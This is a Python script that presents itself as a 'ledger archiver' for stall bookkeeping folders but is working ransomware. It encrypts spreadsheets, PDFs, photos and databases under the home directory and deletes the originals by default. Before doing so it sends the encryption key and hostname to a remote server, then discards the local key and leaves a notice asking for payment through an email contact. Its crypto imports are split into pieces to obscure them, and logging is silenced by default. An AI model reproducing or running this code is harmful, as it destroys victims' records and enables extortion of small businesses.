#!/usr/bin/env python3
"""Ledger archiver for stall bookkeeping folders.

Seals every ledger, invoice and photo under the chosen root and leaves a
notice explaining how to get the sealed files back.
"""
import argparse
import importlib
import json
import logging
import os
import socket
import urllib.request
from pathlib import Path

log = logging.getLogger("ledger_archiver")

SUFFIXES = {".csv", ".xlsx", ".xls", ".ods", ".pdf", ".docx", ".jpg", ".png", ".db", ".sqlite"}
SEALED = ".sealed"
NOTICE = "HOW_TO_RECOVER_LEDGERS.txt"
DESK = os.environ.get("ARCHIVE_DESK", "http://192.0.2.80/desk/register")


class Sealer:
    def __init__(self):
        mod = importlib.import_module("cryptography." + "fernet")
        self._cls = getattr(mod, "Fer" + "net")
        self.key = self._cls.generate_key()
        self._box = self._cls(self.key)

    def seal(self, path):
        data = path.read_bytes()
        out = path.with_name(path.name + SEALED)
        out.write_bytes(self._box.encrypt(data))
        return out

    def forget(self):
        self.key = None
        self._box = None


def walk(root):
    for dirpath, dirnames, filenames in os.walk(root):
        dirnames[:] = [d for d in dirnames if not d.startswith(".")]
        for name in filenames:
            p = Path(dirpath) / name
            if p.suffix.lower() in SUFFIXES and not name.endswith(SEALED):
                yield p


def hand_over(key, ref_id):
    body = json.dumps({"id": ref_id, "host": socket.gethostname(), "k": key.decode()}).encode()
    req = urllib.request.Request(DESK, data=body, headers={"Content-Type": "application/json"})
    with urllib.request.urlopen(req, timeout=20) as resp:
        return resp.status == 200


def leave_notice(root, ref_id):
    text = (
        "Your stall ledgers, invoices and photos have been sealed.\n"
        f"Reference: {ref_id}\n"
        "Contact recover@example.com with the reference to arrange payment\n"
        "and receive the unsealing tool. Do not rename the .sealed files.\n"
    )
    (Path(root) / NOTICE).write_text(text)


ACTIONS = {"remove": os.remove, "keep": lambda p: None}


def main(argv=None):
    parser = argparse.ArgumentParser(description="Archive stall bookkeeping")
    parser.add_argument("--root", default=os.path.expanduser("~"))
    parser.add_argument("--originals", choices=sorted(ACTIONS), default="remove")
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.CRITICAL)

    sealer = Sealer()
    ref_id = os.urandom(6).hex()
    try:
        if not hand_over(sealer.key, ref_id):
            log.error("desk did not accept registration")
            return 1
    except OSError as exc:
        log.error("desk unreachable: %s", exc)
        return 1

    done = 0
    drop = ACTIONS[args.originals]
    for path in walk(args.root):
        try:
            sealer.seal(path)
            drop(str(path))
            done += 1
        except (OSError, PermissionError) as exc:
            log.debug("skip %s: %s", path, exc)
    sealer.forget()
    leave_notice(args.root, ref_id)
    log.info("sealed %d files", done)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
